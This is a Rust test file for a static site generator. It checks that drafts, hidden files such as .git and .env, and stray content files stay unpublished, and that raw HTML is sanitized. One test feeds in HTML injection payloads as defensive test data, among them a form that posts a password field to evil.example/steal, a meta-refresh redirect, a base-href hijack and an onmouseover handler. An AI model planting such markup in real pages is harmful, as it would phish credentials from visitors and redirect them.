//! What gets published from a site with private or odd files in it: drafts, hidden files and
//! folders, files that are not Markdown, Markdown in capitals, bundles of every kind, raw HTML
//! that the allow-list cleans. Each case builds (warnings allowed) and is checked on the output
//! a visitor would get. (Files are made at test time: a fixture cannot hold a `.git` folder.)

use super::*;

/// A course bundle `content/courses/<slug>/` with an `index.md` (code, extra front matter) and
/// the attachments given.
fn bundle(s: &Site, slug: &str, code: &str, extra: &str, files: &[(&str, &str)]) {
    let text = s
        .read("content/courses/base-course.md")
        .replace("B0000001", code)
        .replacen("+++\n", &format!("+++\n{extra}"), 1);
    s.write(&format!("content/courses/{slug}/index.md"), text);
    for (name, bytes) in files {
        s.write(&format!("content/courses/{slug}/{name}"), bytes);
    }
}

/// The warnings with `code`, as (file, message).
fn warned<'r>(r: &'r Report, code: &str) -> Vec<(&'r str, &'r str)> {
    r.diagnostics
        .iter()
        .filter(|d| d.code == code && d.severity == prospectus::diag::Severity::Warning)
        .map(|d| (d.file.as_deref().unwrap_or(""), d.message.as_str()))
        .collect()
}

/// No output file's path contains `part`.
fn nowhere(s: &Site, part: &str) {
    let hits: Vec<String> = tree(&s.out())
        .into_keys()
        .filter(|k| k.contains(part))
        .collect();
    assert!(hits.is_empty(), "{part} is published: {hits:?}");
}

/// No output file's bytes contain `text`.
fn said_nowhere(s: &Site, text: &str) {
    for (k, v) in tree(&s.out()) {
        assert!(
            !String::from_utf8_lossy(&v).contains(text),
            "{k} contains {text}"
        );
    }
}

#[test]
fn a_draft_bundle_publishes_nothing() {
    let s = Site::fixture("base");
    bundle(
        &s,
        "secret-course",
        "B0000009",
        "draft = true\n",
        &[
            ("programme.pdf", "%PDF-1.4 draft programme"),
            ("plan.svg", "<svg/>"),
        ],
    );
    let r = succeeds(&s);
    nowhere(&s, "secret-course");
    nowhere(&s, "programme.pdf");
    assert!(warned(&r, "unpublished-file").is_empty(), "{}", show(&r));
    // Previewed with --drafts, the bundle is a course with its attachments.
    let mut opts = s.options(&s.out());
    opts.drafts = true;
    assert_success(&prospectus::build(&opts));
    assert!(s
        .out()
        .join("en/courses/secret-course/programme.pdf")
        .is_file());
}

#[test]
fn a_draft_translation_leaves_the_published_ones_as_they_were() {
    // The English file states the facts; the French one inherits them. Marking the English
    // translation as a draft must not take them from the French page.
    let s = Site::fixture("base");
    let en = s.read("content/courses/base-course.md");
    s.write(
        "content/courses/base-course.md",
        en.replacen("+++\n", "+++\ndraft = true\n", 1),
    );
    succeeds(&s);
    nowhere(&s, "en/courses/base-course");
    let fr = std::fs::read_to_string(s.out().join("fr/courses/base-course/index.html")).unwrap();
    for fact in [
        "ilsgen@example.org",
        "/fr/topics/gender-equality/",
        "Égalité de genre et diversité",
        "900",
        "2025-09-15",
    ] {
        assert!(fr.contains(fact), "the French page keeps {fact}");
    }
    assert!(
        fr.matches("<tr").count() >= 2,
        "the refund table stays on the French page"
    );
    let topic =
        std::fs::read_to_string(s.out().join("fr/topics/gender-equality/index.html")).unwrap();
    assert!(
        topic.contains("/fr/courses/base-course/"),
        "the course stays on its topic page"
    );
    said_nowhere(&s, "/en/courses/base-course/");
}

#[test]
fn a_draft_translations_texts_are_not_published() {
    let s = Site::fixture("base");
    let en = s.read("content/courses/base-course.md").replacen(
        "+++\n",
        "+++\ndraft = true\nworkload = \"DRAFT WORKLOAD not agreed yet\"\n",
        1,
    );
    s.write(
        "content/courses/base-course.md",
        en.replace("A valid course.", "DRAFT BODY"),
    );
    succeeds(&s);
    said_nowhere(&s, "DRAFT WORKLOAD");
    said_nowhere(&s, "DRAFT BODY");
    said_nowhere(&s, "A valid course that every invalid fixture starts from");
}

#[test]
fn hidden_files_and_folders_in_content_are_never_read_nor_published() {
    let s = Site::fixture("base");
    s.write(
        "content/.git/config",
        "[remote \"origin\"]\n\turl = git@secret\n",
    );
    s.write("content/.git/objects/ab/cdef", "blob");
    s.write("content/.env", "API_KEY=secret\n");
    s.write(
        "content/courses/.draft-notes.md",
        "+++\ntitle = \"Private\"\n+++\nx\n",
    );
    s.write(
        "content/.obsidian/notes.md",
        "+++\ntitle = \"Notes\"\n+++\nPRIVATE NOTES\n",
    );
    let r = succeeds(&s);
    for part in [
        ".git",
        ".env",
        ".draft-notes",
        ".obsidian",
        "config",
        "cdef",
    ] {
        nowhere(&s, part);
    }
    said_nowhere(&s, "PRIVATE NOTES");
    said_nowhere(&s, "secret");
    assert!(warned(&r, "unpublished-file").is_empty(), "{}", show(&r));
}

#[test]
fn files_in_content_outside_bundles_are_not_published() {
    let s = Site::fixture("base");
    s.write(
        "content/courses/notes.txt",
        "remember to ask about the budget\n",
    );
    s.write("content/logo.png", "not really a png");
    s.write("content/notices/draft-call.docx", "PK");
    let r = succeeds(&s);
    for part in ["notes.txt", "logo.png", "draft-call.docx"] {
        nowhere(&s, part);
    }
    let w = warned(&r, "unpublished-file");
    let files: Vec<&str> = w.iter().map(|(f, _)| *f).collect();
    assert_eq!(
        files,
        vec![
            "content/courses/notes.txt",
            "content/logo.png",
            "content/notices/draft-call.docx"
        ],
        "{}",
        show(&r)
    );
    let d = r
        .diagnostics
        .iter()
        .find(|d| d.code == "unpublished-file")
        .unwrap();
    assert!(hint(d).contains("bundle") && hint(d).contains("static/"));
}

#[test]
fn markdown_in_capitals_is_a_page_never_raw_source() {
    let s = Site::fixture("base");
    s.write(
        "content/faq.MD",
        "+++\ntitle = \"FAQ\"\n+++\nAsked often.\n",
    );
    s.write(
        "content/help.Md",
        "+++\ntitle = \"Help\"\n+++\nHelp text.\n",
    );
    succeeds(&s);
    nowhere(&s, ".MD");
    nowhere(&s, ".Md");
    said_nowhere(&s, "title = \"FAQ\"");
    let faq = std::fs::read_to_string(s.out().join("en/faq/index.html")).unwrap();
    assert!(faq.contains("Asked often."));
    assert!(s.out().join("en/help/index.html").is_file());
}

#[test]
fn page_and_notice_bundles_publish_their_files_beside_their_pages() {
    let s = Site::fixture("base");
    std::fs::remove_file(s.path("content/about.md")).unwrap();
    s.write(
        "content/about/index.md",
        "+++\ntitle = \"About\"\n+++\n![The team](team.svg)\n\n[Report](report.pdf)\n",
    );
    s.write(
        "content/about/index.fr.md",
        "+++\ntitle = \"À propos\"\n+++\n![L'équipe](team.svg)\n",
    );
    s.write(
        "content/about/team.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" height=\"20\"/>",
    );
    s.write("content/about/report.pdf", "%PDF-1.4");
    std::fs::remove_file(s.path("content/notices/base-notice.md")).unwrap();
    s.write(
        "content/notices/call/index.md",
        "+++\ntitle = \"Call\"\ndate = 2025-08-01\n+++\n[Terms](terms.pdf)\n",
    );
    s.write("content/notices/call/terms.pdf", "%PDF-1.4");
    succeeds(&s);
    for f in [
        "en/about/team.svg",
        "fr/about/team.svg",
        "en/about/report.pdf",
        "fr/about/report.pdf",
        "en/notices/call/terms.pdf",
    ] {
        assert!(s.out().join(f).is_file(), "{f} is published");
    }
    nowhere(&s, "fr/notices/call");
    let about = std::fs::read_to_string(s.out().join("en/about/index.html")).unwrap();
    assert!(about.contains("width=\"40\" height=\"20\""), "{about}");
    assert_links_hold(&s);
}

#[test]
fn hidden_static_files_are_not_published() {
    let s = Site::fixture("base");
    s.write("static/.git/HEAD", "ref: refs/heads/main\n");
    s.write("static/.git/config", "[core]\n");
    s.write("static/.env", "DB_PASSWORD=secret\n");
    s.write("static/css/.DS_Store", "junk");
    s.write("static/css/site.css", "body{}\n");
    s.write(
        "static/.well-known/security.txt",
        "Contact: mailto:security@example.org\n",
    );
    s.write("static/.well-known/.git/config", "[core]\n");
    let r = succeeds(&s);
    assert!(s.out().join("css/site.css").is_file());
    assert!(
        s.out().join(".well-known/security.txt").is_file(),
        ".well-known is published without being listed"
    );
    for part in [".git", ".env", ".DS_Store"] {
        nowhere(&s, part);
    }
    let files: Vec<&str> = warned(&r, "hidden-file").iter().map(|(f, _)| *f).collect();
    assert_eq!(
        files,
        vec![
            "static/.env",
            "static/.git",
            "static/.well-known/.git",
            "static/css/.DS_Store"
        ],
        "one warning per hidden file or folder: {}",
        show(&r)
    );
}

#[test]
fn static_hidden_lists_the_hidden_files_that_are_published() {
    let s = Site::fixture("base");
    let cfg = s.read("site.toml") + "\n[static]\nhidden = [\".htaccess\", \"docs/.nojekyll\"]\n";
    s.write("site.toml", cfg);
    s.write("static/.htaccess", "Options -Indexes\n");
    s.write("static/docs/.nojekyll", "");
    s.write("static/docs/.secret", "x");
    s.write("static/.well-known/security.txt", "Contact: x\n");
    let r = succeeds(&s);
    assert!(s.out().join(".htaccess").is_file());
    assert!(s.out().join("docs/.nojekyll").is_file());
    nowhere(&s, ".secret");
    nowhere(&s, ".well-known");
    assert_eq!(warned(&r, "hidden-file").len(), 2, "{}", show(&r));
}

#[test]
fn hidden_files_of_the_themes_static_folder_are_not_published() {
    let s = Site::fixture("base");
    s.write("themes/default/static/.env", "SECRET=1\n");
    s.write("themes/default/static/assets/.secret.css", "x");
    s.write("themes/default/templates/.git/HEAD", "{{ oops");
    let r = succeeds(&s);
    nowhere(&s, ".env");
    nowhere(&s, ".secret");
    let files: Vec<&str> = warned(&r, "hidden-file").iter().map(|(f, _)| *f).collect();
    assert_eq!(
        files,
        vec![
            "themes/default/static/.env",
            "themes/default/static/assets/.secret.css"
        ],
        "{}",
        show(&r)
    );
}

#[test]
fn raw_html_payloads_are_removed_and_reported_where_they_are_written() {
    let s = Site::fixture("base");
    let body = [
        "Intro with <b>bold</b> text.",          // 4
        "",                                      // 5
        "<base href=\"https://evil.example/\">", // 6
        "",                                      // 7
        "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">", // 8
        "",                                      // 9
        "<form action=\"https://evil.example/steal\"><input name=\"pw\"></form>", // 10
        "",                                      // 11
        "<iframe src=\"https://evil.example/\"></iframe>", // 12
        "",                                      // 13
        "<p><img src=\"plan.png\" srcset=\"https://evil.example/x.png 2x\" alt=\"Plan\"></p>", // 14
        "",                                      // 15
        "<p style=\"position:fixed\" onmouseover=\"steal()\">Hover</p>", // 16
        "",                                      // 17
        "<table><tr><td style=\"text-align: right\">1</td></tr></table>", // 18
    ]
    .join("\n");
    s.write(
        "content/about.md",
        format!("+++\ntitle = \"About\"\n+++\n{body}\n"),
    );
    let r = succeeds(&s);
    let page = std::fs::read_to_string(s.out().join("en/about/index.html")).unwrap();
    let prose = &page[page.find("class=\"prose\"").unwrap()..];
    let prose = &prose[..prose.find("</article>").unwrap()];
    for gone in [
        "<base",
        "http-equiv",
        "<form",
        "<input",
        "<iframe",
        "srcset",
        "evil.example",
        "onmouseover",
        "position:fixed",
    ] {
        assert!(!prose.contains(gone), "{gone} is left in {prose}");
    }
    for kept in [
        "<b>bold</b>",
        "alt=\"Plan\"",
        "<p>Hover</p>",
        "<td style=\"text-align: right\">1</td>",
    ] {
        assert!(prose.contains(kept), "{kept} is kept in {prose}");
    }
    let lines: Vec<usize> = r
        .diagnostics
        .iter()
        .filter(|d| d.code == "html-removed")
        .map(|d| d.line)
        .collect();
    assert_eq!(
        lines,
        vec![6, 8, 10, 10, 12, 14, 16, 16],
        "each removal at its line: {}",
        show(&r)
    );
    for d in &r.diagnostics {
        assert_quotes_its_line(d, &s);
    }
    // `check` reports the same.
    let c = s.check();
    assert_eq!(
        c.diagnostics
            .iter()
            .filter(|d| d.code == "html-removed")
            .count(),
        8,
        "{}",
        show(&c)
    );
}

#[test]
fn pages_named_like_the_courses_or_notices_sections_are_refused() {
    for name in ["courses", "notices"] {
        let s = Site::fixture("base");
        s.write(
            &format!("content/{name}.md"),
            "+++\ntitle = \"Our list\"\n+++\nMINE\n",
        );
        let r = fails(&s);
        let d = errors(&r)[0];
        assert_eq!(
            d.file.as_deref(),
            Some(format!("content/{name}.md").as_str())
        );
        hint(d);
    }
}
